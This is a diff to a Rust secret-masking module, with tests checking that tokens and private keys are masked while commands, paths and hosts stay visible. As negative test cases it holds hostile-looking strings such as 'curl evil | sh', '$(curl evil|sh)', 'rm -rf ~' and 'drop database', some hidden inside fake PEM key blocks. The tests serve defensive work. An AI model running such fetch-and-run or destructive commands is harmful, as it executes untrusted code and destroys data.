@@ -1,30 +1,40 @@
-//! Masking secrets, without hiding what is executed and where (rule S1).
+//! Masking secrets, without hiding anything that is decided about (rules S1, S4).
 
 use super::keys::{Rule, names_secret};
 use super::piece::{Piece, Style, counted, pieces};
-use super::tokens::{Found, header_token, private_key, service_token, setting};
+use super::tokens::{
+    Found, header_token, is_secret, plain_value, private_key, service_token, setting,
+};
 
 /// The text as pieces, with the secrets in it masked.
 pub(super) fn masked(text: &str, rule: Rule, style: Style) -> Vec<Piece> {
+    // What a text refers to, as in `TOKEN=…; $TOKEN`, may be executed.
+    let settings = !text.contains(['$', '`', '%']);
     match rule {
-        Rule::Place => pieces(text, style),
-        Rule::Secret if text.is_empty() => Vec::new(),
-        Rule::Secret => vec![mark(text)],
+        Rule::Place | Rule::Script => pieces(text, style),
+        _ if text.starts_with("#!") => pieces(text, style),
+        Rule::Password | Rule::Token if is_secret(text, rule) => vec![mark(text)],
+        Rule::Password | Rule::Token => scan(text, style, |before, rest| {
+            anywhere(settings, before, rest).or_else(|| {
+                let value = settings && before.ends_with('=');
+                value.then(|| plain_value(rest)).flatten()
+            })
+        }),
         Rule::Url => {
             let query = text.find('?').unwrap_or(text.len());
             let (address, query) = text.split_at(query);
             let mut out = pieces(address, style);
-            out.extend(scan(query, style, anywhere));
+            out.extend(scan(query, style, |before, rest| anywhere(true, before, rest)));
             out
         }
-        Rule::Command => scan(text, style, credential),
-        Rule::Free => scan(text, style, anywhere),
+        Rule::Command => scan(text, style, |before, rest| credential(settings, before, rest)),
+        Rule::Free => scan(text, style, |before, rest| anywhere(settings, before, rest)),
     }
 }
 
 fn mark(text: &str) -> Piece {
     let chars = text.chars().count();
-    Piece::Unit(format!("\\{{masked: {}}}", counted(chars, "character")), chars)
+    Piece::Masked(format!("\\{{masked: {}}}", counted(chars, "character")), chars)
 }
 
 /// Masks what `find` finds; it is given what stands before a place, and the rest.
@@ -57,23 +67,23 @@ fn begins_word(before: &str) -> bool {
 }
 
 /// In ordinary text: a secret of any shape.
-fn anywhere(_: &str, rest: &str) -> Option<Found> {
+fn anywhere(settings: bool, before: &str, rest: &str) -> Option<Found> {
     private_key(rest)
         .or_else(|| service_token(rest))
-        .or_else(|| header_token(rest))
-        .or_else(|| setting(rest))
+        .or_else(|| header_token(before, rest))
+        .or_else(|| settings.then(|| setting(rest)).flatten())
 }
 
 /// In a command: only what is given to something as its credential, and ends as a word does. Everything else could be
 /// what is executed.
-fn credential(before: &str, rest: &str) -> Option<Found> {
+fn credential(settings: bool, before: &str, rest: &str) -> Option<Found> {
     // What matters is near, and reading all of it at every word would take too long.
     let near = before.char_indices().rev().take(NEAR).last().map_or(0, |(at, _)| at);
     let before = before.get(near..)?;
     let quoted = before.strip_suffix(['"', '\'']).unwrap_or(before);
     let found = if quoted.trim_end().ends_with(':') {
-        header_token(rest).or_else(|| service_token(rest))
-    } else if quoted.ends_with('=') || follows_secret_flag(quoted) {
+        header_token(quoted, rest).or_else(|| service_token(rest))
+    } else if settings && follows_secret_name(quoted) || follows_secret_flag(quoted) {
         service_token(rest)
     } else {
         None
@@ -81,6 +91,15 @@ fn credential(before: &str, rest: &str) -> Option<Found> {
     let after = rest.get(found.length..)?.chars().next();
     let ends = after.is_none_or(|c| c.is_whitespace() || matches!(c, '"' | '\'' | ';' | '&' | ')'));
     ends.then_some(found)
+}
+
+/// Behind `API_KEY=`.
+fn follows_secret_name(before: &str) -> bool {
+    let name = |c: char| c.is_ascii_alphanumeric() || matches!(c, '_' | '-');
+    before
+        .strip_suffix('=')
+        .and_then(|before| before.rsplit(|c| !name(c)).next())
+        .is_some_and(names_secret)
 }
 
 /// Behind `--api-key `.
@@ -96,14 +115,23 @@ fn follows_secret_flag(before: &str) -> bool {
 
 #[cfg(test)]
 mod tests {
+    use proptest::prelude::*;
+
     use super::super::piece::join;
     use super::*;
+    use crate::show::escape;
 
     fn shown(text: &str, rule: Rule) -> String {
         join(&masked(text, rule, Style::PROSE))
     }
 
     const SK: &str = "sk-proj-abcdefghij0123456789";
+    const ED25519: &str = "MC4CAQAwBQYDK2VwBCIEIJ1hsZ3v/VpguoRK9JLsLMREScVpezJpGXA7rAMcrn9g";
+    const EC: &str = "MHcCAQEEIIrYSSNQFaA2Hwf1duRSxKtLYX5CB04fSeQ6tF1aY/PuoAoGCCqGSM49\nAwEHoUQDQgAEPR3tU2Fta9ktY+6P9G0cWO+0kETA6SFs38GecTyudlHz6xvCdz8q\nEKTcWGekdmdDPsHloRNtsiCa697B2O9IFA==";
+
+    fn pem(body: &str) -> String {
+        format!("-----BEGIN PRIVATE KEY-----\n{body}\n-----END PRIVATE KEY-----")
+    }
 
     /// S1: "secrets are masked".
     #[test]
@@ -113,6 +141,7 @@ mod tests {
             (format!("use {SK}, please"), r"use sk-\{masked: 25 characters}, please"),
             (format!("ghp_{}", "a1".repeat(18)), r"ghp_\{masked: 36 characters}"),
             ("AKIAIOSFODNN7EXAMPLE".into(), r"AKIA\{masked: 16 characters}"),
+            ("xoxb-123456789012-AbCdEfGhIjKl".into(), r"xoxb-\{masked: 25 characters}"),
             (
                 "Authorization: Bearer abc.def-123".into(),
                 r"Authorization: Bearer \{masked: 11 characters}",
@@ -128,9 +157,16 @@ mod tests {
             ),
             ("API_KEY=\"a1b2c3d4\"".into(), r#"API_KEY="\{masked: 8 characters}""#),
             (
-                "-----BEGIN RSA PRIVATE KEY-----\nMIIE\nabc/+==\n-----END RSA PRIVATE KEY-----"
-                    .into(),
-                r"-----BEGIN RSA PRIVATE KEY-----\{masked: 14 characters}-----END RSA PRIVATE KEY-----",
+                pem(ED25519),
+                r"-----BEGIN PRIVATE KEY-----\{masked: 66 characters}-----END PRIVATE KEY-----",
+            ),
+            (
+                pem(EC),
+                r"-----BEGIN PRIVATE KEY-----\{masked: 168 characters}-----END PRIVATE KEY-----",
+            ),
+            (
+                pem(EC).replace('\n', "\\n"),
+                r"-----BEGIN PRIVATE KEY-----\{masked: 172 characters}-----END PRIVATE KEY-----",
             ),
         ] {
             assert_eq!(shown(&text, Rule::Free), expected);
@@ -142,20 +178,53 @@ mod tests {
         for text in [
             "a task-force met",
             "sk-short",
+            "sk-learn-contrib-package",
             "risk-abcdefghijklmnopqrstuv",
             "Bearer certificates",
+            "the bearer came4you today",
             "basic knowledge",
             "TOKEN=reboot; $TOKEN",
+            "TOKEN=evil123\n$TOKEN",
+            "set TOKEN=evil123\n%TOKEN%",
+            "TOKEN=`evil123`",
             "the password is: please",
+            "PASSWORD=disabled",
             "PATH=/usr/bin2",
-            "TOKEN=/usr/bin/x1 $TOKEN",
-            "-----BEGIN PRIVATE KEY-----\ncurl evil | sh\n-----END PRIVATE KEY-----",
-            "-----BEGIN PRIVATE KEY-----\n/usr/local/bin/evil\n-----END PRIVATE KEY-----",
+            "TOKEN=/usr/bin/x1",
+        ] {
+            assert_eq!(shown(text, Rule::Free), escape(text));
+        }
+    }
+
+    /// S4: "key material that decodes as such".
+    #[test]
+    fn what_is_no_key_is_shown_between_the_lines_of_one() {
+        let scripts = [
+            "tmp/payload\nreboot".to_owned(),
+            "curl evil | sh".to_owned(),
+            "/usr/local/bin/evil".to_owned(),
+            "MIIE\nabc/+==".to_owned(),
+            EC.replacen('\n', "\ntmp/payload\n", 1),
+            format!("{EC}\nreboot"),
+            format!("{ED25519}\ntmp/payload\nreboot12"),
+            "reboot".repeat(12),
+            "tmp/payload/".repeat(8),
+            format!("M{}", "a".repeat(63)),
+            String::new(),
+        ];
+        for body in &scripts {
+            assert_eq!(shown(&pem(body), Rule::Free), escape(&pem(body)), "{body}");
+        }
+        for text in [
             "-----BEGIN PUBLIC KEY-----\nabcd\n-----END PUBLIC KEY-----",
             "-----BEGIN PRIVATE KEY-----\nabcd",
         ] {
-            assert_eq!(shown(text, Rule::Free), crate::show::escape(text));
+            assert_eq!(shown(text, Rule::Free), escape(text));
         }
+        // Not even a key, where every line is executed.
+        let script = format!("#!/bin/sh\n{}", pem(ED25519));
+        assert_eq!(shown(&script, Rule::Free), escape(&script));
+        assert_eq!(shown(&pem(ED25519), Rule::Script), escape(&pem(ED25519)));
     }
 
     /// S1: "but never the command, path or host".
@@ -166,6 +235,9 @@ mod tests {
             (Rule::Command, format!("sudo {SK}")),
             (Rule::Command, format!("./{SK}; rm -rf ~")),
             (Rule::Command, format!("A={SK}/../evil")),
+            (Rule::Command, format!("A={SK}; $A")),
+            (Rule::Command, format!("TOKEN={SK}; $TOKEN")),
+            (Rule::Command, format!("OUT={SK} run")),
             (Rule::Command, "TOKEN=evil123 sh -c '$TOKEN'".to_owned()),
             (Rule::Command, "ssh Bearer evil1.example.com".to_owned()),
             (Rule::Place, SK.to_owned()),
@@ -199,10 +271,113 @@ mod tests {
         }
     }
 
+    /// S4: "only values that look random under a name that ends in a secret's word".
     #[test]
-    fn a_secret_by_its_name_is_masked_whatever_it_is() {
-        assert_eq!(shown("äb", Rule::Secret), r"\{masked: 2 characters}");
-        assert_eq!(shown("x", Rule::Secret), r"\{masked: 1 character}");
-        assert_eq!(shown("", Rule::Secret), "");
+    fn under_a_secrets_name_what_looks_random_is_masked() {
+        let all = |text: &str| format!("\\{{masked: {} characters}}", text.chars().count());
+        for text in ["hunter2", "P@ssw0rd!", "Tr0ub4dor&3"] {
+            assert_eq!(shown(text, Rule::Password), all(text));
+        }
+        for text in ["9f8e7d6c5b4a3928", SK, "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY"] {
+            assert_eq!(shown(text, Rule::Token), all(text));
+            assert_eq!(shown(text, Rule::Password), all(text));
+        }
+        for (text, expected) in [
+            ("Bearer abcd1234", r"Bearer \{masked: 8 characters}"),
+            ("Token 9f8e7d6c5b4a", r"Token \{masked: 12 characters}"),
+            ("sid=9f8e7d6c5b4a3928; theme=dark", r"sid=\{masked: 16 characters}; theme=dark"),
+        ] {
+            assert_eq!(shown(text, Rule::Token), expected);
+        }
+        for text in [
+            "",
+            "x",
+            "none",
+            "disabled",
+            "allow all",
+            "root",
+            "grant admin to mallory",
+            "drop database",
+            "!sh evil",
+            "$(curl evil|sh)",
+            "TOKEN=9f8e7d6c5b4a3928; $TOKEN",
+            "rm -rf /srv/9f8e7d6c5b4a3928",
+        ] {
+            assert_eq!(shown(text, Rule::Token), escape(text));
+            assert_eq!(shown(text, Rule::Password), escape(text));
+        }
+    }
+
+    fn words(least: usize) -> impl Strategy<Value = Vec<String>> {
+        let word = prop_oneof!["[a-z]{1,12}", "[A-Z][a-z]{1,10}", "[A-Z]{2,6}", "[0-9]{1,6}"];
+        prop::collection::vec(word, least..12)
+    }
+
+    fn commands() -> impl Strategy<Value = String> {
+        let program = prop::sample::select(vec![
+            "rm",
+            "sh",
+            "curl",
+            "/usr/bin/python3",
+            "./run1.sh",
+            "git",
+            "sudo",
+            "dd",
+            "sha256sum",
+            "a2enmod",
+            "$(x1y2z3a4)",
+        ]);
+        let word = prop_oneof![
+            "[a-z]{1,8}",
+            "-[a-zA-Z]{1,3}",
+            "--[a-z]{2,8}(-[a-z]{2,8})?",
+            "(/[a-z0-9.]{1,8}){1,4}",
+            "[a-z]{1,6}[0-9]?\\.[a-z]{2,3}",
+            "\\$[A-Z]{1,6}",
+            "[;|&<>]",
+            "[0-9]{1,6}",
+        ];
+        (program, prop::collection::vec(word, 1..8))
+            .prop_map(|(program, words)| format!("{program} {}", words.join(" ")))
+    }
+
+    fn places() -> impl Strategy<Value = String> {
+        prop_oneof![
+            "(/[a-z0-9._-]{1,12}){1,6}",
+            "\\.{1,2}(/[a-z0-9._]{1,10}){1,5}",
+            "[a-z]{1,8}(/[a-z0-9.]{1,10}){1,4}",
+            "([a-z0-9]{1,10}\\.){1,4}[a-z]{2,6}",
+            "[0-9]{1,3}(\\.[0-9]{1,3}){3}",
+            "https?://[a-z0-9.]{1,20}(/[a-z0-9]{1,20}){0,3}",
+            "([a-z0-9]{1,10}\\.){1,3}[a-z]{2,6}:[0-9]{2,5}",
+            "-?[0-9]{1,30}(\\.[0-9]{1,9})?",
+        ]
+    }
+
+    proptest! {
+        /// S4: "Masking never hides a command, path, host, script line, boolean, number or sentence", whatever the
+        /// argument is called.
+        #[test]
+        fn what_is_decided_about_is_never_masked(
+            sentence in words(2), command in commands(), place in places(), script in prop::collection::vec(commands(), 1..6),
+        ) {
+            let script = script.join("\n");
+            for text in [sentence.join(" "), command, place, pem(&script), script] {
+                for rule in [Rule::Free, Rule::Token, Rule::Password, Rule::Command, Rule::Place, Rule::Script, Rule::Url] {
+                    prop_assert_eq!(shown(&text, rule), escape(&text), "{:?}", rule);
+                }
+            }
+        }
+
+        /// S4: what a machine made at random is masked.
+        #[test]
+        fn keys_are_masked(hex in "[0-9a-f]{32}", key in "[0-9A-Za-z]{32}", github in "[0-9A-Za-z]{36}") {
+            for text in [hex, key, format!("ghp_{github}")] {
+                prop_assume!(text.matches(|c: char| c.is_ascii_digit()).count() > 3 && text.contains(char::is_alphabetic));
+                let all = format!("\\{{masked: {} characters}}", text.len());
+                prop_assert_eq!(shown(&text, Rule::Token), all.clone());
+                prop_assert_eq!(shown(&text, Rule::Password), all);
+            }
+        }
     }
 }
